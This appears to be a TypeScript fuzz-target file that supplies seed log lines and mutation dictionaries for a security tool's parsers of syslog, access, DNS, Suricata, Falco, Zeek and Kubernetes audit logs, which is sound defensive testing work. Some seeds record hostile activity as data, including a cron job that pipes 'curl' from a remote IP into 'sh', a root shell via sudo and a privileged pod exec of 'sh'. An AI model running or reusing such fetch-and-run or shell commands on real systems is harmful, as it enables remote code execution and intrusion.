import { accessLog } from '../../../src/sources/access-log/index.ts'
import { dnsLog } from '../../../src/sources/dns-log/index.ts'
import { falco } from '../../../src/sources/falco/index.ts'
import { kubernetesAudit } from '../../../src/sources/kubernetes-audit/index.ts'
import { suricata } from '../../../src/sources/suricata/index.ts'
import { syslog } from '../../../src/sources/syslog/index.ts'
import { zeek } from '../../../src/sources/zeek/index.ts'
import type { Target } from '../target.ts'
import { logTarget } from './logs.ts'

const text = (...lines: readonly string[]): Uint8Array => Buffer.from(lines.join('\n'))
const json = (...records: readonly unknown[]): Uint8Array =>
  text(...records.map((record) => JSON.stringify(record)))

const AT = '2026-05-12T03:14:05.123456+0000'
const ENDS = { src_ip: '10.0.0.7', src_port: 40022, dest_ip: '203.0.113.9', dest_port: 53, proto: 'UDP' }
const JSON_WORDS = [
  ':null',
  ':[[]]',
  ':{"a":1}',
  ':1e999',
  '"\\u0000"',
  '\n{',
  ':-1',
  ':"2001:db8::1"',
  '\ufeff',
]

/** Lines of syslog that are of other programs than sshd. */
export const programs: Target = logTarget(
  'programs',
  syslog,
  () => [
    text(
      ...[
        'sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c id',
        'sudo: pam_unix(sudo:auth): authentication failure; logname=a uid=1 euid=0 tty=pts/0 ruser=a rhost=  user=a',
        'su[7]: FAILED su for root by alice',
        'CRON[9]: (root) CMD (curl -s http://203.0.113.5/x | sh)',
        'useradd[8]: new user: name=bob, UID=1002, GID=1002, home=/home/bob, shell=/bin/sh',
        'systemd[1]: Started nginx.service - A web server.',
        'kernel: [ 1.5] msr: Write to unrecognized MSR 0x1a4 by x (pid: 4711).',
        'dnsmasq[5]: query[A] a.example from 192.0.2.5',
        'unbound[7]: [7:0] info: 192.0.2.5 example.com. A IN NOERROR 0.01 0 56',
        'named[7]: client @0x7f 192.0.2.5#53 (a.example): query: a.example IN A + (192.0.2.53)',
        'falco[7]: Warning Shell in a container (user=root command=sh)',
      ].map((line, at) => `May 12 03:14:${String(at + 10)} web-1 ${line}`),
    ),
  ],
  [
    ' : ',
    ' ; ',
    'COMMAND=',
    '3 incorrect password attempts',
    'pam_unix(su:auth): ',
    '999999 more authentication failures; ',
  ],
)

export const requests: Target = logTarget(
  'access-log',
  accessLog,
  () => [
    text(
      '192.0.2.1 - - [12/May/2026:03:14:05 +0000] "GET /a?b HTTP/1.1" 200 1 "-" "curl" 0.004',
      String.raw`www.example.com:443 2001:db8::1 - a [12/May/2026:03:14:06 +0000] "\x16\x03" 400 0 "-" "-"`,
      '2026/05/12 03:14:05 [error] 31#31: *46 x',
    ),
    json({
      remote_addr: '192.0.2.1',
      time_iso8601: '2026-05-12T03:14:05+00:00',
      request: 'GET / HTTP/1.1',
      status: 200,
    }),
  ],
  [
    '[12/May/2026:03:14:05 +0000]',
    '"',
    '\\x',
    '\\"',
    ' 200 ',
    '::ffff:192.0.2.1',
    '29/Feb/2025',
    ...JSON_WORDS,
  ],
)

export const nameServers: Target = logTarget(
  'dns-log',
  dnsLog,
  () => [
    text('[1778555645] unbound[1234:0] info: 192.0.2.5 example.com. A IN'),
    text(
      '12-May-2026 03:14:05.250 queries: info: client @0x7f 192.0.2.5#1 (a): query: a IN A + (192.0.2.53)',
    ),
  ],
  ['[99999999999]', 'client ', ': query: ', '@', '#', '31-Feb-2026 03:14:05.250 '],
)

export const eve: Target = logTarget(
  'suricata',
  suricata,
  () => [
    json(
      {
        timestamp: AT,
        event_type: 'alert',
        ...ENDS,
        alert: { signature: 'x', severity: 1, metadata: { tag: ['a'] } },
      },
      {
        timestamp: AT,
        event_type: 'dns',
        ...ENDS,
        dns: { type: 'answer', rrname: 'a', rrtype: 'A', answers: [{}] },
      },
      {
        timestamp: AT,
        event_type: 'tls',
        ...ENDS,
        tls: { sni: 'a', subject: 'a', issuerdn: 'a', notbefore: AT },
      },
      { timestamp: AT, event_type: 'flow', ...ENDS, flow: { start: AT, end: AT, pkts_toserver: 1 } },
      { timestamp: AT, event_type: 'http', ...ENDS, http: { url: '/a?b' } },
    ),
  ],
  JSON_WORDS,
)

export const falcoAlerts: Target = logTarget(
  'falco',
  falco,
  () => [
    json({
      time: '2026-05-12T03:14:05.123456789Z',
      rule: 'x',
      priority: 'Warning',
      output: '03:14:05.1: Warning x (a=b)',
      output_fields: { 'container.id': 'a', 'fd.name': '10.0.0.7:1->203.0.113.9:3333' },
      tags: ['T1496'],
    }),
  ],
  JSON_WORDS,
)

export const zeekLogs: Target = logTarget(
  'zeek',
  zeek,
  () => [
    text(
      String.raw`#separator \x09`,
      '#set_separator\t,',
      '#empty_field\t(empty)',
      '#unset_field\t-',
      '#path\tdns',
      '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tquery\trcode_name\tanswers',
      '#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tvector[string]',
      '1778555645.25\tC\t10.0.0.7\t1\t10.0.0.2\t53\ta.example\tNOERROR\tb,c',
    ),
    json({
      ts: 1778555645.25,
      uid: 'C',
      'id.orig_h': '10.0.0.7',
      'id.resp_h': '10.0.0.2',
      conn_state: 'SF',
      duration: 1,
    }),
  ],
  ['#separator \\x00', '#fields\t', '#types\t', '#path\tconn', '\t-\t', '\\x09', ...JSON_WORDS],
)

export const clusterCalls: Target = logTarget(
  'kubernetes-audit',
  kubernetesAudit,
  () => [
    json({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      auditID: 'a',
      stage: 'ResponseComplete',
      verb: 'create',
      requestURI: '/api/v1/namespaces/a/pods/b/exec?command=sh&command=%00',
      objectRef: { resource: 'pods', subresource: 'exec' },
      requestObject: { kind: 'Pod', spec: { containers: [{ securityContext: { privileged: true } }] } },
      stageTimestamp: '2026-05-12T03:14:05.123456Z',
    }),
  ],
  ['{"kind":"EventList","items":[', '%', '&command=', ...JSON_WORDS],
)
